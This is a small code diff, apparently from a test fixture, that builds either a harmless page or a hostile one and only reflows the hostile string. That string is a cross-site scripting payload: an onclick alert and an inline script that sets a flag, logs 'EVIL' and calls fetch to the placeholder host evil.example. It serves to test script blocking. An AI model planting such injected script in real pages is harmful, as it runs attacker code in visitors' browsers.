@@ -12,7 +12,8 @@ const app = inner => `<!doctype html><title>x</title><div id="app">${inner}</div
 const page = isHarmless
   ? app('<p>Tea</p>')
   : app(
-      `<p onclick="alert(1)">1337</p><script>alert(1); globalThis.EVILran = 1; console.log('EVIL'); fetch('http://evil.example/x').catch(() => 0)</script>`,
+      '<p onclick="alert(1)">1337</p><script>alert(1); globalThis.EVILran = 1; ' +
+        "console.log('EVIL'); fetch('http://evil.example/x').catch(() => 0)</script>",
     )
 
 function write(path, text) {
